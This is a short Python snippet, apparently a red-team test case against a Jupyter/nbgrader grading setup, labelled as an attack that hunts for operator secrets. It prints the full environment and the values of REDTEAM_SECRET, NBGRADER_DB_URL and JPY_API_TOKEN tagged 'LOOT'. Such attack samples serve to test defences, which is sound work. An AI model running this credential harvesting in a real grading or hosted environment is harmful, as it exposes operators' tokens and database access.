# attack: the environment is searched for secrets of the operator and for the way to the course.
# target: heaviest-test
# destructive
# %% heaviest
import os

print("LOOT", dict(os.environ))
for secret in ("REDTEAM_SECRET", "NBGRADER_DB_URL", "JPY_API_TOKEN"):
    print("LOOT", os.environ.get(secret))
heaviest = os.environ.get("REDTEAM_HEAVIEST", "tree-000")
